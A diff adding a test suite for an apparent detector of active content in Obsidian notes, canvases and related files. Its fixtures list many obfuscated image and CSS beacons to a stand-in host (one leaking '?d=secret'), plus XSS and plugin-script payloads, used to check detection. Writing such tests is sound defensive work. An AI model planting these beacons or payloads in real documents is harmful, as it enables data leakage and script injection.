@@ -1,0 +1,358 @@
+"""What a change brings in that loads or runs: spellings that people and attackers use, and the ones that are harmless."""
+
+from __future__ import annotations
+
+import html
+import json
+import random
+import time
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from obsidian_agent.plan.active_content import CLOSELY, ActiveContent, added_content
+
+URL = "https://evil.test/p.png"
+
+LOADING = {
+    "plain": "![x](https://evil.test/p.png)",
+    "brackets": "![a [b] c](https://evil.test/p.png)",
+    "indented ref": "![x][r]\n\n   [r]: https://evil.test/p.png\n",
+    "ref in quote": "> ![x][r]\n>\n> [r]: https://evil.test/p.png\n",
+    "entities": "![x](&#104;ttps://evil.test/p.png)",
+    "srcset": '<img srcset="a.png 1x, https://evil.test/p.png 2x">',
+    "poster": '<video poster="https://evil.test/p.png"></video>',
+    "source": '<video><source src="https://evil.test/p.png"></video>',
+    "svg image": '<svg><image href="https://evil.test/p.png"/></svg>',
+    "svg use": '<svg><use xlink:href="https://evil.test/p.png#a"/></svg>',
+    "css url": '<div style="background:url(https://evil.test/p.png)">x</div>',
+    "css escape": '<div style="background:\\75rl(\\68ttps://evil.test/p.png)">x</div>',
+    "style el": "<style>@import 'https://evil.test/p.png';</style>",
+    "unquoted": "<img src=https://evil.test/p.png>",
+    "newline in tag": "<img\n  alt='x'\n  src='https://evil.test/p.png'>",
+    "gt in alt": '<img alt=">" src="https://evil.test/p.png">',
+    "no slashes": "![x](https:evil.test/p.png)",
+    "backslashes": '<img src="https:\\\\evil.test/p.png">',
+    "proto rel": "![x](//evil.test/p.png)",
+    "tab in url": '<img src="ht\ttps://evil.test/p.png">',
+    "angle": "![x](<https://evil.test/p.png>)",
+    "title": '![x](https://evil.test/p.png "t")',
+    "newline dest": "![x](\nhttps://evil.test/p.png\n)",
+    "iframe srcdoc": '<iframe srcdoc="<img src=https://evil.test/p.png>"></iframe>',
+    "iframe srcdoc ent": '<iframe srcdoc="&lt;img src=https://evil.test/p.png&gt;"></iframe>',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/p.png">',
+    "link css": '<link rel=stylesheet href="https://evil.test/p.png">',
+    "body bg": '<table background="https://evil.test/p.png">',
+    "quote tag": '> <img\n> src="https://evil.test/p.png">',
+    "object": '<object data="https://evil.test/p.png">',
+    "after unclosed comment": "a <!-- b\n\n![x](https://evil.test/p.png)",
+    "after open quote": '<a title="\n\n<img src="https://evil.test/p.png">',
+    "textarea": "<textarea>\n\n<img src='https://evil.test/p.png'>",
+    "math fence": "$$\n```\n$$\n\n![x](https://evil.test/p.png)\n",
+    "comment fence": "%%\n```\n%%\n\n![x](https://evil.test/p.png)\n",
+    "math tick": "$`$ ![x](https://evil.test/p.png) $`$",
+    "table tick": "| a | b |\n|---|---|\n| ` | ![x](https://evil.test/p.png) | ` |",
+    "indented code": "    ![x](https://evil.test/p.png)",
+    "tab code": "\t<img src='https://evil.test/p.png'>",
+    "list": "- a\n    - b\n\n            ![x](https://evil.test/p.png)",
+    "callout": "> [!note]- T\n> ![x](https://evil.test/p.png)",
+    "nested": "> > - > 1. ![x](https://evil.test/p.png)",
+    "ad block": "```ad-note\n![x](https://evil.test/p.png)\n```",
+    "dataview str": '```dataview\nLIST "![x](https://evil.test/p.png)"\n```',
+    "leaflet": "```leaflet\ntileServer: https://evil.test/p.png\n```",
+    "frontmatter banner": "---\nbanner: https://evil.test/p.png\n---\n",
+    "fm html": "---\na: \"<img src='https://evil.test/p.png'>\"\n---\n",
+    "fm yaml esc": '---\ncover: "\\u0068ttps://evil.test/p.png"\n---\n',
+    "wiki": "![[https://evil.test/p.png]]",
+    "spaces": "![x](https://evil.test/a b.png)",
+    "picture": "<picture><source srcset='https://evil.test/p.png'></picture>",
+    "case": "![x](HTTPS://evil.test/p)",
+    "ftp": "![x](ftp://evil.test/p)",
+    "userinfo": "![x](https://a@evil.test/p)",
+    "collapsed ref": "![r][]\n\n[r]: https://evil.test/p.png",
+    "shortcut": "![r]\n\n[r]: <https://evil.test/p.png>",
+    "ref multi-line": "![r]\n\n[r]:\n   https://evil.test/p.png\n   't'",
+    "inline dql": '`= "![x](https://evil.test/p.png)"`',
+    "linked image": "[![x](https://evil.test/p.png)](a.md)",
+    "img slash": "<img/src='https://evil.test/p.png'/>",
+    "upper": "<IMG SRC='https://evil.test/p.png'>",
+    "mask": "<div style='mask-image:image-set(\"https://evil.test/p.png\" 1x)'>",
+    "var": "<div style='--a:url(\"https://evil.test/p.png\")'>",
+    "css comment": "<div style='background:ur/**/l(https:/*x*///evil.test/p)'>",
+    "svg anim": "<svg><animate attributeName=href values='https://evil.test/p.png'/></svg>",
+    "ping": "<a ping='https://evil.test/p.png'>",
+    "audio": "<audio src='https://evil.test/p.png'>",
+    "embed": "<embed src='https://evil.test/p.png'>",
+    "input": "<input type=image src='https://evil.test/p.png'>",
+    "base": "<base href='https://evil.test/'>",
+    "codespan 2 lines": "<div>\n```\n</div>\n\n![x](https://evil.test/p.png)",
+}
+
+RUNNING = {
+    "dvjs": "```dataviewjs\nx\n```",
+    "callout": "> [!x]\n> ```dataviewjs\n> x\n> ```",
+    "list": "- a\n  ```dataviewjs\n  x\n  ```",
+    "list1": "- ```dataviewjs\n  x\n  ```",
+    "4": "````dataviewjs\nx\n````",
+    "tilde": "~~~dataviewjs\nx\n~~~",
+    "indent": "    ```dataviewjs\n    x\n    ```",
+    "attr": "``` {.dataviewjs}\nx\n```",
+    "space": "```   dataviewjs foo\nx\n```",
+    "entity": "```data&#118;iewjs\nx\n```",
+    "onerror": "<img src=x onerror=alert(1)>",
+    "onload": "<svg/onload=alert(1)>",
+    "ONCLICK": "<p ONCLICK='a()'>",
+    "jslink": "[a](javascript:alert(1))",
+    "jsent": "[a](java&#115;cript:alert(1))",
+    "jstab": "<a href='java\tscript:alert(1)'>",
+    "jsref": "[a][r]\n\n[r]: javascript:alert(1)",
+    "jsauto": "<javascript:alert(1)>",
+    "templater": "<% tp %>",
+    "tp*": "<%* tp %>",
+    "tpfence": "```md\n<% tp %>\n```",
+    "dv": "`$= dv.x`",
+    "dv2": "``$= dv.x``",
+    "script": "<script>x</script>",
+    "data": "<iframe src='data:text/html,<script>'>",
+    "button": "```button\nname x\n```",
+    "mb": "`BUTTON[x]`",
+    "mbb": "```meta-bind-button\nx\n```",
+    "adv": "[x](obsidian://adv-uri?eval=x)",
+    "run": "```run-python\nx\n```",
+    "qa": "```js quickadd\nx\n```",
+    "jse": "```js-engine\nx\n```",
+    "mbjs": "```meta-bind-js-view\nx\n```",
+    "dcjsx": "```datacorejsx\nx\n```",
+}
+
+CANVASES = {
+    "esc": '{"nodes":[{"type":"link","url":"https:\\/\\/evil.test\\/a"}]}',
+    "u": '{"nodes":[{"type":"link","url":"\\u0068ttps://evil.test/a"}]}',
+    "text": '{"nodes": [{"type": "text", "text": "![x](\\u0068ttps://evil.test/p.png)"}]}',
+    "bg": '{"nodes": [{"type": "group", "background": "https://evil.test/p.png"}]}',
+    "broken": '{"nodes":[{"type":"link","url":"https:\\/\\/evil.test\\/a"}',
+}
+
+OTHER_FILES = {
+    "html": ("a.html", "<img src=https://evil.test/p.png>"),
+    "css": ("a.css", "@import url(https://evil.test/p.png)"),
+    "base": ("a.base", 'formulas:\n  a: image("https://evil.test/p.png")\n'),
+    "svg": ("a.svg", "<svg><image href='https://evil.test/p.png'/></svg>"),
+    "entity": ("a.svg", "<!DOCTYPE s [<!ENTITY e 'https://evil.test/p.png'>]><svg><image href='&e;'/></svg>"),
+}
+
+HARMLESS = {
+    "link": "[a](https://evil.test/p.png)",
+    "auto": "<https://evil.test/p.png>",
+    "bare": "https://evil.test/p.png",
+    "code": "`![x](https://evil.test/p.png)`",
+    "fence": "```md\n![x](https://evil.test/p.png)\n<img src='https://evil.test/p.png'>\n```",
+    "html a": "<a href='https://evil.test/p.png' title='https://evil.test/p.png'>x</a>",
+    "escaped": "\\![x](https://evil.test/p.png)",
+    "embed": "![[a.png|100]] ![[b]]",
+    "local": "![x](a/b.png)",
+    "def": "[a][r]\n\n[r]: https://evil.test/p.png",
+    "source prop": "---\nsource: https://evil.test/p.png\n---\ntext",
+    "prose": "JavaScript: the good parts; on error = x; a // b; 10:30",
+    "py": "```python\nx\n```",
+    "html ok": "<b>x</b> <br> <span style='color:red'>y</span>",
+    "ent tag": "&lt;img src=https://evil.test/p.png&gt;",
+    "dataview": "```dataview\nTABLE a FROM b\n```",
+    "mermaid": "```mermaid\ngraph TD\nA-->B\n```",
+    "kbd": "<kbd>Ctrl</kbd>",
+    "tasks": "```tasks\nnot done\n```",
+    "obs": "[x](obsidian://open?vault=a)",
+    "lt": "a < b and c > d",
+    "math": "$a<b$ and $$x$$",
+}
+
+
+def added(text: str, before: str = "", path: str = "a.md") -> ActiveContent:
+    return added_content(path, text.encode(), before.encode())
+
+
+def loads(found: ActiveContent) -> bool:
+    return any("evil.test" in host for host in found.hosts)
+
+
+@pytest.mark.parametrize("name", LOADING)
+def test_what_loads_is_seen_in_every_spelling(name: str) -> None:
+    assert loads(added(LOADING[name]))
+
+
+@pytest.mark.parametrize("name", RUNNING)
+def test_what_runs_is_seen_in_every_spelling(name: str) -> None:
+    assert added(RUNNING[name]).code
+
+
+@pytest.mark.parametrize("name", CANVASES)
+def test_json_escapes_in_a_canvas_hide_nothing(name: str) -> None:
+    assert loads(added(CANVASES[name], path="a.canvas"))
+
+
+@pytest.mark.parametrize("name", OTHER_FILES)
+def test_other_files_that_obsidian_shows_are_read_in_their_own_language(name: str) -> None:
+    path, text = OTHER_FILES[name]
+    assert loads(added(text, path=path))
+
+
+@pytest.mark.parametrize("name", HARMLESS)
+def test_links_code_examples_and_plain_words_are_not_flagged(name: str) -> None:
+    assert added(HARMLESS[name]) == ActiveContent()
+
+
+def test_a_code_card_on_a_canvas_is_seen() -> None:
+    assert added(json.dumps({"nodes": [{"type": "text", "text": "> ```dataviewjs\n> x\n> ```"}]}), path="a.canvas").code
+
+
+# --- what counts is the result ------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", [*LOADING, *RUNNING])
+def test_the_character_that_completes_it_is_seen_like_the_whole(name: str) -> None:
+    """However a text is cut in two, one of the two edits that put it together brings in what it brings in as a whole."""
+    text = (LOADING | RUNNING)[name]
+    for cut in range(len(text) + 1):
+        first, second = added(text[:cut]), added(text, text[:cut])
+        if name in LOADING:
+            # Cut inside an address, the first part may load from a shorter name already; then the second names the longer one.
+            assert loads(second) or loads(first), cut
+        else:
+            assert second.code or first.code, cut
+
+
+@pytest.mark.parametrize("name", [*LOADING, *RUNNING])
+def test_what_was_there_before_is_not_flagged_again(name: str) -> None:
+    text = (LOADING | RUNNING)[name]
+    assert added(text, text) == ActiveContent()
+    assert added_content("new.md", text.encode(), text.encode(), "old.md") == ActiveContent()
+
+
+def test_a_second_address_at_a_host_that_is_there_already_is_flagged() -> None:
+    before = "![x](https://evil.test/a)\n"
+    assert loads(added(before + "![x](https://evil.test/?d=secret)\n", before))
+
+
+def test_a_deleted_fence_that_frees_an_image_is_flagged() -> None:
+    inside = f"```md\n![x]({URL})\n```\n"
+    assert not loads(added(inside))
+    assert loads(added(inside.replace("```md\n", ""), inside))
+
+
+def test_an_image_that_uses_a_definition_from_before_is_flagged() -> None:
+    before = f"[a link][r]\n\n[r]: {URL}\n"
+    assert loads(added(before + "\n![x][r]\n", before))
+
+
+def test_another_name_can_make_code_of_what_was_data() -> None:
+    assert added_content("a.js", b"app.x()", b"app.x()", "a.txt").code
+
+
+# --- law: containers hide nothing ---------------------------------------------------------------------------------------------------
+
+
+def _prefixed(first: str, others: str) -> Callable[[str], str]:
+    def wrap(text: str) -> str:
+        lines = text.split("\n")
+        return "\n".join([first + lines[0], *(others + line for line in lines[1:])])
+
+    return wrap
+
+
+CONTAINERS: dict[str, Callable[[str], str]] = {
+    "quote": _prefixed("> ", "> "),
+    "callout": lambda text: "> [!note]- Title\n" + _prefixed("> ", "> ")(text),
+    "list": _prefixed("- ", "  "),
+    "task": _prefixed("- [ ] ", "  "),
+    "ordered list": _prefixed("1. ", "   "),
+    "indented": _prefixed("    ", "    "),
+    "tab": _prefixed("\t", "\t"),
+    "after words": lambda text: f"Some words.\n\n{text}",
+    "before words": lambda text: f"{text}\n\nSome words.",
+    "after a heading": lambda text: f"# Title\n\n{text}",
+    "after a closed fence": lambda text: f"```py\nx = 1\n```\n\n{text}",
+    "after a comment": lambda text: f"%%\n```\n%%\n\n{text}",
+    "after a formula": lambda text: f"$$\n```\n$$\n\n{text}",
+    "after an open quote": lambda text: f'<a title="\n\n{text}',
+    "below properties": lambda text: f"---\ntags: [a]\n---\n{text}",
+    "windows": lambda text: text.replace("\n", "\r\n"),
+    "footnote": _prefixed("[^1]: ", "    "),
+}
+SIMPLE_LOADING = [
+    f"![x]({URL})",
+    f"![a [b] c]({URL})",
+    f"![x]( <{URL}> 'title' )",
+    f"<img src='{URL}'>",
+    f"<img\nalt='>' src={URL}>",
+    f"<video poster='{URL}'></video>",
+    f"<picture><source srcset='a 1x, {URL} 2x'></picture>",
+    f"<svg><image href='{URL}'/></svg>",
+    f"<p style='background:url({URL})'>x</p>",
+    f"words [![x]({URL})](a.md) words",
+]
+SIMPLE_RUNNING = [
+    "```dataviewjs\nx\n```",
+    "````dataviewjs\nx\n````",
+    "~~~js-engine\nx\n~~~",
+    "`$= dv.current()`",
+    "<img src=x onerror=alert(1)>",
+    "[a](javascript:alert)",
+    "<% tp.x %>",
+    "<script>x</script>",
+]
+
+
+@given(st.lists(st.sampled_from(sorted(CONTAINERS)), max_size=4), st.sampled_from(SIMPLE_LOADING + SIMPLE_RUNNING))
+def test_containers_hide_nothing(names: list[str], construct: str) -> None:
+    text = construct
+    for name in names:
+        text = CONTAINERS[name](text)
+    found = added(text)
+    assert loads(found) if construct in SIMPLE_LOADING else found.code, text
+
+
+@given(
+    st.randoms(use_true_random=False),
+    st.sampled_from(["![x]({})", "<img src='{}'>", "![x][r]\n\n[r]: {}", "<p style='background:url({})'>"]),
+)
+def test_entities_hide_nothing(chance: random.Random, construct: str) -> None:
+    url = "".join(chance.choice([char, f"&#{ord(char)};", f"&#x{ord(char):x};"]) for char in URL)
+    assert html.unescape(url) == URL
+    assert loads(added(construct.format(url)))
+
+
+@given(st.randoms(use_true_random=False))
+def test_json_escapes_hide_nothing(chance: random.Random) -> None:
+    for card in ({"type": "link", "url": URL}, {"type": "text", "text": f"![x]({URL})"}, {"type": "group", "background": URL}):
+        text = json.dumps({"nodes": [card]})
+        start = text.index("https")
+        hidden = "".join(chance.choice([char, f"\\u{ord(char):04x}"]) for char in URL).replace("/", "\\/")
+        assert loads(added(text[:start] + hidden + text[start + len(URL) :], path="a.canvas"))
+
+
+# --- limits -------------------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("unit", ["[", "![", "<a b='", "`", "> ", ">", "&", "\n", "[x][", "<% ", "image ", "$`", "```x\n"])
+def test_a_text_made_to_be_slow_is_read_in_time_and_hides_nothing(unit: str) -> None:
+    text = f"![x]({URL})\n\n" + unit * (60_000 // len(unit))
+    started = time.process_time()
+    assert loads(added(text))
+    assert time.process_time() - started < 6
+
+
+def test_what_is_too_large_to_be_read_closely_shows_too_much_rather_than_too_little() -> None:
+    words = "words " * (CLOSELY // 6) + "\n"
+    before = f"{words}![x]({URL}"
+    assert loads(added(before + ")", before))
+    assert loads(added(f"{words}<img src='&#104;ttps://evil.test'>", words))
+    assert added(f"{words}\n```dataviewjs\nx\n```", words).code
+    assert added(words + "and some more words", words) == ActiveContent()
+    assert added(before + " more words", before) == ActiveContent()
+
+
+def test_deep_nesting_hides_nothing() -> None:
+    assert loads(added("> " * 300 + f"![x]({URL})"))
+    assert loads(added("![" * 300 + f"![x]({URL})" + "](a.png)" * 300))
